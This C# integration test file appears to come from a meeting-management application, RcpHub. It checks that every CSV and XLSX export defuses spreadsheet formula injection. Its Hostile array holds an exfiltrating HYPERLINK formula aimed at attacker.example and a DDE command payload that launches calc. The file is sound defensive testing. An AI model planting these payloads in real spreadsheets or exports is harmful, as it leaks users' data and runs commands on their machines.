using System.Globalization;
using System.Net;
using System.Reflection;
using ClosedXML.Excel;
using CsvHelper;
using Microsoft.AspNetCore.Http.Metadata;
using Microsoft.AspNetCore.Mvc.RazorPages;
using Microsoft.AspNetCore.Routing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using RcpHub.Domain;
using RcpHub.IntegrationTests.Features.Meetings;
using static RcpHub.IntegrationTests.Features.Delegations.ArrangeDelegations;

namespace RcpHub.IntegrationTests.Infrastructure;

/// <summary>Every CSV and XLSX export, fed values a spreadsheet program would run as formulas and characters XML cannot
/// hold, read back with a real CSV reader and a real workbook reader.</summary>
public sealed class ExportTests : IAsyncLifetime
{
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "Bell\u0007, escape\u001b, vertical tab\u000b and \uFFFF",
    ];

    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    private RcpHubFactory _factory = null!;
    private int _meetingId;
    private AppUser _secretariat = null!;

    public async ValueTask InitializeAsync()
    {
        _factory = await RcpHubFactory.CreateAsync();
        var midsa = await Arrange.ProcessIdAsync(_factory, "midsa");
        _secretariat = await TestSignIn.CreateUserAsync(_factory, "secretariat@midsa.example", roles: new ReaderRole(midsa, ProcessRole.Secretariat));
        var meeting = await Arrange.MeetingAsync(_factory, midsa, "Meeting with hostile delegates", MeetingAudience.Public);
        _meetingId = meeting.Id;
        await DelegationAsync(_factory, meeting.Id, "ZAF", _secretariat.Id, DelegationStatus.Confirmed,
            Hostile.Select((value, i) => Delegate(value, value, Gender.NotStated, head: i == 0, function: value)).ToArray());
        await using var scope = _factory.Scope();
        var process = await scope.Db.Processes.SingleAsync(p => p.Id == midsa);
        process.Name = Hostile[0];
        process.SecretariatDescription = Hostile[1];
        process.FormalInstitution = Hostile[6];
        // A public adopted output, for the public accountability CSV.
        scope.Db.Outputs.Add(new Output
        {
            ProcessId = midsa, Kind = OutputKind.ActionPlan, Title = Hostile[0], OriginalLanguage = "en", Audience = MeetingAudience.Public,
            AdoptedOn = DateOnly.FromDateTime(DateTime.UtcNow), CreatedAt = DateTimeOffset.UtcNow, UpdatedAt = DateTimeOffset.UtcNow,
            Recommendations = [new Recommendation { Number = 1, OriginalLanguage = "en", Text = Hostile[1], ToAllMembers = true }],
        });
        // An evaluation round with a hostile title, on an adopted output with a hostile title and one recommendation.
        var output = new Output
        {
            ProcessId = midsa,
            Title = Hostile[6],
            OriginalLanguage = "en",
            AdoptedOn = new DateOnly(2025, 1, 1),
            CreatedAt = DateTimeOffset.UtcNow,
            UpdatedAt = DateTimeOffset.UtcNow,
            Recommendations = [new Recommendation { Number = 1, OriginalLanguage = "en", Text = Hostile[2], ToAllMembers = true }],
        };
        var round = new EvaluationRound
        {
            ProcessId = midsa,
            Title = Hostile[0],
            Output = output,
            OpensAt = DateTimeOffset.UtcNow.AddDays(-1),
            DeadlineAt = DateTimeOffset.UtcNow.AddDays(10),
            OpenedByUserId = _secretariat.Id,
            CreatedAt = DateTimeOffset.UtcNow,
        };
        scope.Db.AddRange(output, round);
        // An adopted output whose recommendations, each asked of every member state, hold the hostile texts: South Africa's follow-up grid lists them.
        var asked = new Output { ProcessId = midsa, Kind = OutputKind.Recommendations, Title = Hostile[0], OriginalLanguage = "en", AdoptedOn = new DateOnly(2024, 5, 1) };
        asked.Recommendations.AddRange(Hostile.Select((value, i) => new Recommendation { Number = i + 1, OriginalLanguage = "en", Text = value, ToAllMembers = true }));
        scope.Db.Outputs.Add(asked);
        // A data request (issue 12) whose questions and South Africa's submitted answers hold the hostile texts.
        var request = new DataRequest
        {
            ProcessId = midsa, Title = Hostile[0], DeadlineAt = DateTimeOffset.UtcNow.AddDays(10), CreatedByUserId = _secretariat.Id,
            CreatedAt = DateTimeOffset.UtcNow, SentAt = DateTimeOffset.UtcNow,
            Questions = [.. Hostile.Select((value, i) => new DataQuestion { ProcessId = midsa, Number = i + 1, Text = value, Kind = DataQuestionKind.FreeText })],
        };
        scope.Db.DataRequests.Add(request);
        await scope.Db.SaveChangesAsync();
        scope.Db.DataResponses.Add(new DataResponse
        {
            ProcessId = midsa, DataRequestId = request.Id, StateCode = "ZAF", SubmittedAt = DateTimeOffset.UtcNow, SubmittedByUserId = _secretariat.Id,
            Answers = [.. request.Questions.Select((q, i) => new DataAnswer { ProcessId = midsa, DataQuestionId = q.Id, Text = Hostile[i] })],
        });
        await scope.Db.SaveChangesAsync();
        _roundId = round.Id;
        _requestId = request.Id;
    }

    private int _roundId;
    private int _requestId;

    public async ValueTask DisposeAsync() => await _factory.DisposeAsync();

    /// <summary>The exports under test, by what serves them: an API route, or a page handler.</summary>
    private IEnumerable<(string Export, string Url, bool Xlsx)> Exports() =>
    [
        ("/api/v1/processes.csv", "/api/v1/processes.csv", false),
        ("/api/v1/processes/{slug}/accountability.csv", "/api/v1/processes/midsa/accountability.csv", false),
        ("ParticipantsModel.Csv", $"/meetings/{_meetingId}/participants?handler=Csv", false),
        ("ParticipantsModel.Xlsx", $"/meetings/{_meetingId}/participants?handler=Xlsx", true),
        ("RoundModel.Csv", $"/processes/midsa/evaluation/{_roundId}?handler=Csv", false),
        ("RequestModel.Csv", $"/processes/midsa/data-requests/{_requestId}?handler=Csv", false),
        ("RequestModel.Xlsx", $"/processes/midsa/data-requests/{_requestId}?handler=Xlsx", true),
        ("RoundModel.Xlsx", $"/processes/midsa/evaluation/{_roundId}?handler=Xlsx", true),
        ("GridModel.Csv", "/processes/midsa/follow-up/zaf?handler=Csv", false),
        ("GridModel.Xlsx", "/processes/midsa/follow-up/zaf?handler=Xlsx", true),
        ("/api/v1/processes/{slug}/follow-up/{state}/export.csv", "/api/v1/processes/midsa/follow-up/zaf/export.csv", false),
        ("/api/v1/processes/{slug}/follow-up/{state}/export.xlsx", "/api/v1/processes/midsa/follow-up/zaf/export.xlsx", true),
    ];

    [Fact]
    public void The_test_covers_every_export_the_application_serves()
    {
        using var client = _factory.CreateClient();
        var apiExports = _factory.Services.GetRequiredService<EndpointDataSource>().Endpoints
            .OfType<RouteEndpoint>()
            // A document's file is served byte for byte as it was uploaded (as an attachment): it is the uploader's
            // spreadsheet, not a table the platform writes.
            .Where(e => e.RoutePattern.RawText?.EndsWith("/file", StringComparison.Ordinal) != true)
            .Where(e => e.Metadata.OfType<IProducesResponseTypeMetadata>().SelectMany(p => p.ContentTypes).Any(IsSpreadsheet)
                || e.RoutePattern.RawText?.EndsWith(".csv", StringComparison.OrdinalIgnoreCase) == true
                || e.RoutePattern.RawText?.EndsWith(".xlsx", StringComparison.OrdinalIgnoreCase) == true)
            .Select(e => "/" + e.RoutePattern.RawText!.TrimStart('/'));
        var pageExports = typeof(Program).Assembly.GetTypes()
            .Where(t => t.IsSubclassOf(typeof(PageModel)))
            .SelectMany(t => t.GetMethods(BindingFlags.Public | BindingFlags.Instance | BindingFlags.DeclaredOnly)
                .Where(m => m.Name.StartsWith("OnGet", StringComparison.Ordinal))
                .Select(m => m.Name["OnGet".Length..].Replace("Async", "", StringComparison.Ordinal))
                .Where(h => h.Contains("Csv", StringComparison.OrdinalIgnoreCase) || h.Contains("Xlsx", StringComparison.OrdinalIgnoreCase)
                    || h.Contains("Excel", StringComparison.OrdinalIgnoreCase) || h.Contains("Export", StringComparison.OrdinalIgnoreCase))
                .Select(h => $"{t.Name}.{h}"));

        Assert.Equal(apiExports.Concat(pageExports).Order(StringComparer.Ordinal), Exports().Select(e => e.Export).Order(StringComparer.Ordinal));
    }

    private static bool IsSpreadsheet(string contentType) =>
        contentType.StartsWith("text/csv", StringComparison.OrdinalIgnoreCase) || contentType.Contains("spreadsheetml", StringComparison.OrdinalIgnoreCase);

    [Fact]
    public async Task No_export_hands_out_a_cell_that_a_spreadsheet_would_run_as_a_formula()
    {
        using var member = await TestSignIn.HtmlClientAsync(_factory, _secretariat);
        foreach (var (export, url, xlsx) in Exports())
        {
            using var response = await member.Http.GetAsync(url);
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{export}: {response.StatusCode}");
            var bytes = await response.Content.ReadAsByteArrayAsync();
            var cells = xlsx ? XlsxCells(bytes) : CsvCells(bytes);

            Assert.Contains(cells, c => c.Text == "'" + Hostile[0]);
            Assert.All(cells, c => Assert.False(c.Text.Length > 0 && FormulaStarts.Contains(c.Text[0]) && !c.IsNumber,
                $"{export}: the cell \"{c.Text}\" starts a formula"));
            if (xlsx)
            {
                Assert.Contains(cells, c => c.Text.StartsWith("Bell\uFFFD", StringComparison.Ordinal));
            }
        }
    }

    internal static List<(string Text, bool IsNumber)> CsvCells(byte[] bytes)
    {
        using var csv = CsvReader.Create(bytes, CsvReaderOptions.Default with { HasHeader = false });
        var cells = new List<(string, bool)>();
        while (csv.Read())
        {
            for (var i = 0; i < csv.FieldCount; i++)
            {
                var text = csv.GetString(i);
                cells.Add((text, double.TryParse(text, NumberStyles.Float, CultureInfo.InvariantCulture, out _)));
            }
        }
        return cells;
    }

    internal static List<string[]> CsvRows(byte[] bytes)
    {
        using var csv = CsvReader.Create(bytes, CsvReaderOptions.Default with { HasHeader = false });
        var rows = new List<string[]>();
        while (csv.Read())
        {
            rows.Add(Enumerable.Range(0, csv.FieldCount).Select(csv.GetString).ToArray());
        }
        return rows;
    }

    internal static List<(string Text, bool IsNumber)> XlsxCells(byte[] bytes)
    {
        using var workbook = new XLWorkbook(new MemoryStream(bytes));
        return workbook.Worksheets.Single().CellsUsed()
            .Select(c => (c.HasFormula ? "=" + c.FormulaA1 : c.GetString(), c.DataType == XLDataType.Number))
            .ToList();
    }
}
